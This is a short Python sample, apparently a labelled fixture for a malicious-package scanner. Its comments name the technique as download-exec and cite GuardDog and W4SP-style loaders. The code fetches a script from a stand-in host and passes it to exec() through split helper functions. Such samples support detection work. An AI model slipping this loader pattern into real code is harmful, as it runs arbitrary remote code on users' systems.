# technique: download in one function, exec in another
# class: download-exec
# source: GuardDog "download-executable" docs; Phylum W4SP-family loaders split across helpers
# declares: network
import requests


def _fetch(u):
    return requests.get(u, timeout=5).text


def _apply(code):
    exec(code, {})


def sync():
    _apply(_fetch("https://ngrok.io.example.dev/hook.py"))
